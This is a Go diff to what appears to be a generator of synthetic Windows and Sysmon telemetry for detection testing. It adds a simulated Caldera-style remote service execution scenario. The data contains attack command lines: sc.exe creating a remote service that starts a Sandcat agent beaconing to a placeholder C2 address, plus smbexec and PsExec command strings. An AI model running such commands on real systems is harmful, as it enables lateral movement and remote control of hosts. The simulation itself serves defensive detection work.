@@ -13,6 +13,7 @@ var attackByName = map[string]attackFunc{
 	ScenarioScComspec:       (*Generator).scComspec,
 	ScenarioRegistryOnly:    (*Generator).registryOnly,
 	ScenarioImagePathHijack: (*Generator).imagePathHijack,
+	ScenarioScRemote:        (*Generator).scRemote,
 }
 
 // attackGap returns the number of events until the next attack chain: about
@@ -75,14 +76,18 @@ func (g *Generator) randomName(n int, upper bool) string {
 // -r to rename the service and pipes (MANIFEST pitfall 7).
 func (g *Generator) psexec(s *slot) {
 	target := g.randomHost()
-	src := g.otherHost(target)
+	g.psexecChain(s, g.attackSource(target), target, ScenarioPsExec, true)
+}
+
+// psexecChain queues a PsExec run from src to target under a label.
+func (g *Generator) psexecChain(s *slot, src, target *host, scenario string, malicious bool) {
 	name, exe := "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`
-	renamed := g.rng.IntN(5) == 0
+	renamed := malicious && g.rng.IntN(5) == 0
 	if renamed {
 		name = g.randomName(8, false)
 		exe = g.arena.concat(`%SystemRoot%\`, name, ".exe")
 	}
-	ep := g.begin(s, target, ScenarioPsExec, true, name)
+	ep := g.begin(s, target, scenario, malicious, name)
 	admin := target.newAccount(g, "admmig")
 
 	cmd := g.arena.concat(`PsExec.exe \\`, target.short, ` -accepteula -s cmd /c whoami`)
@@ -96,6 +101,19 @@ func (g *Generator) psexec(s *slot) {
 	g.psexecTarget(ep, admin, src, srcPort, name, exe, tool.pidN)
 }
 
+// attackSource returns the host a remote attack comes from: any host but
+// the target and the approved jump host.
+func (g *Generator) attackSource(target *host) *host {
+	if len(g.hosts) < 3 {
+		return g.otherHost(target) // a two-host fleet has no other source
+	}
+	for {
+		if h := g.randomHost(); h != target && h != g.jump {
+			return h
+		}
+	}
+}
+
 // psexecTarget queues the target side of a PsExec chain.
 func (g *Generator) psexecTarget(ep episode, admin account, src *host, srcPort uint64,
 	name, exe string, toolPID uint64) {
@@ -107,7 +125,7 @@ func (g *Generator) psexecTarget(ep episode, admin account, src *host, srcPort u
 	ep.fileCreate(h.system, g.arena.concat(`C:\Windows\`, file))
 	ep.shareAccess(&admin, src.ip, srcPort, `\\*\IPC$`, "", "svcctl", "0x12019f",
 		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
-	g.scmInstall(ep, &admin, name, exe, telemetry.StartDemand, 0, 0)
+	g.scmInstall(ep, &admin, install{name: name, imagePath: exe, start: telemetry.StartDemand})
 
 	bin := binPsExecSvc
 	if name != "PSEXESVC" {
@@ -131,22 +149,32 @@ func (g *Generator) psexecTarget(ep episode, admin account, src *host, srcPort u
 	ep.serviceState(name, "stopped")
 }
 
+// install is a service that a client asks the Service Control Manager to
+// create.
+type install struct {
+	name      string // key name (4697, the registry)
+	display   string // display name, when set: 7045 writes it as ServiceName
+	imagePath string
+	start     uint32
+	client    uint64 // creating process ID (0 for a remote client)
+	parent    uint64 // its parent's ID
+}
+
 // scmInstall queues what the Service Control Manager records when a client
 // creates a service: the key and ImagePath written by services.exe (Sysmon
 // 12 and 13, with Sysmon's doubled percent signs), 7045 and 4697.
-func (g *Generator) scmInstall(ep episode, who *account, name, imagePath string, start uint32,
-	client, parent uint64) {
+func (g *Generator) scmInstall(ep episode, who *account, in install) {
 	h := ep.h
-	key := g.arena.concat(`HKLM\System\CurrentControlSet\Services\`, name)
+	key := g.arena.concat(`HKLM\System\CurrentControlSet\Services\`, in.name)
 	ep.registry(h.services, telemetry.RegCreateKey, key, "")
 	ep.registry(h.services, telemetry.RegSetValue, g.arena.concat(key, `\ImagePath`),
-		doublePercents(g, imagePath))
+		doublePercents(g, in.imagePath))
 	ep.registry(h.services, telemetry.RegSetValue, g.arena.concat(key, `\Start`),
-		g.arena.concat("DWORD (", g.arena.hex(uint64(start), 8), ")"))
-	ep.serviceInstalled(who.sid, name, imagePath, telemetry.ServiceOwnProcess, start,
-		"LocalSystem")
-	ep.serviceInstalledAudit(who, name, imagePath, telemetry.ServiceOwnProcess, start,
-		"LocalSystem", client, parent)
+		g.arena.concat("DWORD (", g.arena.hex(uint64(in.start), 8), ")"))
+	ep.serviceInstalled(who.sid, cmpOr(in.display, in.name), in.imagePath,
+		telemetry.ServiceOwnProcess, in.start, "LocalSystem")
+	ep.serviceInstalledAudit(who, in.name, in.imagePath, telemetry.ServiceOwnProcess, in.start,
+		"LocalSystem", in.client, in.parent)
 }
 
 // doublePercents renders s as Sysmon writes registry Details: "%" as "%%".
@@ -181,7 +209,8 @@ func (g *Generator) smbexec(s *slot) {
 	ep.shareAccess(&admin, ip, port, `\\*\IPC$`, "", "svcctl", "0x12019f",
 		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
 	ep.pipe(h.system, true, `\svcctl`)
-	g.scmInstall(ep, &admin, name, smbexecCommand, telemetry.StartDemand, 0, 0)
+	g.scmInstall(ep, &admin, install{name: name, imagePath: smbexecCommand,
+		start: telemetry.StartDemand})
 	shell := ep.processCreate(h.services, binCmd,
 		`C:\Windows\system32\cmd.exe /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > `+
 			`C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c `+
@@ -207,7 +236,8 @@ func (g *Generator) scComspec(s *slot) {
 	shell := ep.processCreate(h.explorer, binCmd, `"C:\Windows\system32\cmd.exe"`, &h.user)
 	sc := ep.processCreate(shell, binSc,
 		g.arena.concat(`sc.exe  create `, name, ` binPath= "`, binPath, `"`), &h.user)
-	g.scmInstall(ep, &h.user, name, binPath, telemetry.StartDemand, sc.pidN, shell.pidN)
+	g.scmInstall(ep, &h.user, install{name: name, imagePath: binPath,
+		start: telemetry.StartDemand, client: sc.pidN, parent: shell.pidN})
 	ep.processCreate(shell, binSc, g.arena.concat(`sc.exe  start `, name), &h.user)
 	child := ep.processCreate(h.services, binCmd,
 		g.arena.concat(`C:\Windows\system32\cmd.exe /c `, payload), &h.machine)
@@ -274,4 +304,44 @@ func (g *Generator) hijackStart(ep episode, shell proc, bin *binary, cmd string)
 	ep.processCreate(shell, binSc, `sc  start Fax`, &h.user)
 	ep.processCreate(h.services, bin, cmd, &h.machine)
 	ep.serviceState("Fax", "running")
+}
+
+var binSandcat = vendorBin(`C:\Users\Public\s4ndc4t.exe`, "", "", "", "", "",
+	"D0A6EBC2F4B5A7D9EBF3B5C7D9EBA3F5B7C9DBE3")
+
+// scRemote is Caldera's remote service execution (an1185 notes M9): sc.exe
+// on another host creates "sandsvc" on the target with a display name (so
+// 7045's ServiceName differs from 4697's, MANIFEST pitfall 1) and a binpath
+// of "cmd /c start" the agent, then starts it; services.exe starts cmd.exe,
+// which starts the agent, which beacons to its server (the AN1185 leg of a
+// network connection from a process tied to a transient service).
+func (g *Generator) scRemote(s *slot) {
+	target := g.randomHost()
+	src := g.attackSource(target)
+	ep := g.begin(s, target, ScenarioScRemote, true, "sandsvc")
+	su := ep.on(src)
+	c2 := g.arena.concat("10.66.", g.arena.decimal(uint64(g.rng.IntN(250))), ".7")
+	server := g.arena.concat("http://", c2, ":8888")
+	agentCmd := g.arena.concat(`C:\Users\Public\s4ndc4t.exe -server `, server, ` -group red`)
+	binPath := g.arena.concat(`cmd /c start `, agentCmd)
+	port := 49152 + uint64(g.rng.IntN(16000))
+
+	shell := su.processCreate(src.explorer, binCmd, `"C:\Windows\system32\cmd.exe"`, &src.user)
+	sc := su.processCreate(shell, binSc, g.arena.concat(`sc.exe \\`, target.short,
+		` create sandsvc start= demand error= ignore binpath= "`, binPath,
+		`" displayname= "Sandcat Execution"`), &src.user)
+	su.networkConnect(sc, &src.user, true, src.ip, port, target.ip, 445, "")
+	admin := target.newAccount(g, src.user.name)
+	ep.logon(&admin, "3", src.ip, port)
+	ep.shareAccess(&admin, src.ip, port, `\\*\IPC$`, "", "svcctl", "0x12019f",
+		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
+	ep.pipe(target.system, true, `\svcctl`)
+	g.scmInstall(ep, &admin, install{name: "sandsvc", display: "Sandcat Execution",
+		imagePath: binPath, start: telemetry.StartDemand})
+	su.processCreate(shell, binSc, g.arena.concat(`sc.exe \\`, target.short, ` start sandsvc`),
+		&src.user)
+	child := ep.processCreate(target.services, binCmd, binPath, &target.machine)
+	agent := ep.processCreate(child, binSandcat, agentCmd, &target.machine)
+	ep.networkConnect(agent, &target.machine, true, target.ip,
+		49152+uint64(g.rng.IntN(16000)), c2, 8888, "")
 }
